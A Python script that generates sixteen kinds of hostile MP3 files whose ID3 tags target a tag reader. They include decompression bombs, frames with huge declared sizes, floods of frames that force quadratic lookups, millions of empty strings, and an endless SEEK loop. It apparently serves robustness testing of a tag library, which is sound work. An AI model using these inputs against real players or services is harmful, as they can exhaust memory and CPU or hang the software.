#!/usr/bin/python3
"""Writes MP3 files whose ID3 tags are built to defeat a tag reader.

usage: make_hostile.py DIR [CLASS...]   (all classes when none are named)

Each file is a valid-looking ID3v2 tag followed by a few bytes of MPEG
audio (unless its class ends the file itself); what makes it hostile is
said beside each class.
"""
import os
import struct
import sys
import zlib

AUDIO = b"\xff\xfb\x90\x64" + b"\x00" * 413  # one silent MPEG-1 layer III frame


def syncsafe(n):
    return bytes([(n >> 21) & 0x7F, (n >> 14) & 0x7F, (n >> 7) & 0x7F, n & 0x7F])


def tag(version, frames, flags=0):
    return b"ID3" + bytes([version, 0, flags]) + syncsafe(len(frames)) + frames


def frame24(fid, data, flags=0):
    return fid + syncsafe(len(data)) + struct.pack(">H", flags) + data


def frame23(fid, data, flags=0):
    return fid + struct.pack(">IH", len(data), flags) + data


def inflating_nuls():
    # A compressed TIT2 that inflates to 64 MiB of NULs: every NUL is one
    # more string in the title's list.
    data = b"\x00" * (64 << 20)
    packed = zlib.compress(data, 9)
    body = syncsafe(len(data)) + packed  # data length indicator first
    return tag(4, frame24(b"TIT2", body, flags=0x0009))  # compressed, with length


def obsolete_frames():
    # 100,000 frames that the reader keeps as obsolete ones, each looked up
    # among all before it.
    return tag(3, b"".join(frame23(b"TSIZ", b"\x001") for _ in range(100000)))


def obsolete_beside_title():
    # A harmless title among 100,000 obsolete frames.
    frames = b"".join(frame23(b"TSIZ", b"\x001") for _ in range(100000))
    return tag(3, frame23(b"TIT2", b"\x00x") + frames)


def strings_beside_title():
    # A harmless title beside an album frame of 16 MB of NULs: millions of
    # empty strings.
    return tag(4, frame24(b"TIT2", b"\x03x") + frame24(b"TALB", b"\x03" + b"\x00" * (16 << 20)))


def seek_chain():
    # 50,000 tags, each with a SEEK frame pointing at the next.
    out = b""
    count = 50000
    for i in range(count):
        last = i == count - 1
        seek = b"" if last else frame24(b"SEEK", struct.pack(">I", 0))
        out += tag(4, frame24(b"TIT2", b"\x03x") + seek)
    return out


def seek_loop():
    # The tag 128 bytes before the end is read first, as if it were an ID3v1
    # tag; a SEEK frame of the tag at the start leads back to it, and its
    # own SEEK frame to itself, for ever. The file ends with that tag.
    last = tag(4, frame24(b"SEEK", struct.pack(">I", 0)))
    first = tag(4, frame24(b"TIT2", b"\x03x") + frame24(b"SEEK", struct.pack(">I", len(AUDIO))))
    return first + AUDIO + last + bytes(128 - len(last))


def huge_nul_title():
    # A 16 MB TIT2 of NULs: millions of empty strings.
    return tag(4, frame24(b"TIT2", b"\x03" + b"\x00" * (16 << 20)))


def huge_declared_size():
    # An ID3v2.3 compressed frame that declares 4 GiB of data in a tiny file.
    packed = zlib.compress(b"x" * 400)
    body = struct.pack(">I", 0xFFFFFFFF) + packed
    return tag(3, frame23(b"TIT2", body, flags=0x0080))


def inflating_v23_string():
    # An ID3v2.3 compressed TIT2 that inflates to one string of 24 MiB, which
    # the tag library decodes whole (taking four times as much) for a title
    # of 259 letters.
    data = b"\x00" + b"a" * (24 << 20)
    return tag(3, frame23(b"TIT2", struct.pack(">I", len(data)) + zlib.compress(data, 9),
                          flags=0x0080))


def obsolete_flood():
    # 400,000 ID3v2.3 frames the reader keeps as obsolete whatever they hold,
    # each looked up among all before it, and a title after them.
    frames = b"".join(frame23(b"RVAD", b"\x09junk") for _ in range(400000))
    return tag(3, frames + frame23(b"TIT2", b"\x00x"))


def unknown_flood():
    # 400,000 frames of an id the reader does not know, and a title.
    frames = b"".join(frame24(b"QQQQ", b"?") for _ in range(400000))
    return tag(4, frame24(b"TIT2", b"\x03x") + frames)


def empty_strings_utf16():
    # A UTF-16 TIT2 of 16 MB of NULs: millions of empty strings.
    return tag(4, frame24(b"TIT2", b"\x01" + b"\x00" * (16 << 20)))


def short_strings():
    # A TIT2 of 4 million one-letter strings.
    return tag(4, frame24(b"TIT2", b"\x00" + b"a\x00" * (4 << 20)))


def terminated_title():
    # A UTF-16 title whose writer ended it with terminators, read as more,
    # empty strings after it.
    text = "Terminated".encode("utf-16-le")
    return tag(3, frame23(b"TIT2", b"\x01\xff\xfe" + text + b"\x00" * 6))


def title_then_nuls():
    # A title followed by 16 MB of NULs: millions of empty strings after it,
    # which must cost neither the title nor the time to walk them twice.
    return tag(4, frame24(b"TIT2", b"\x00x" + b"\x00" * (16 << 20)))


def unsync_ff00_end():
    # Unsynchronised frame data that ends in FF 00.
    return tag(4, frame24(b"TIT2", b"\x03abc\xff\x00", flags=0x0002))


CLASSES = {
    "inflating-nuls": inflating_nuls,
    "obsolete-frames": obsolete_frames,
    "obsolete-beside-title": obsolete_beside_title,
    "strings-beside-title": strings_beside_title,
    "seek-chain": seek_chain,
    "seek-loop": seek_loop,
    "huge-nul-title": huge_nul_title,
    "huge-declared-size": huge_declared_size,
    "unsync-ff00-end": unsync_ff00_end,
    "inflating-v23-string": inflating_v23_string,
    "obsolete-flood": obsolete_flood,
    "unknown-flood": unknown_flood,
    "empty-strings-utf16": empty_strings_utf16,
    "short-strings": short_strings,
    "terminated-title": terminated_title,
    "title-then-nuls": title_then_nuls,
}

ENDS_FILE = {"seek-loop"}


def main():
    out_dir = sys.argv[1]
    names = sys.argv[2:] or list(CLASSES)
    os.makedirs(out_dir, exist_ok=True)
    for name in names:
        with open(os.path.join(out_dir, name + ".mp3"), "wb") as f:
            f.write(CLASSES[name]() + (b"" if name in ENDS_FILE else AUDIO))


if __name__ == "__main__":
    main()
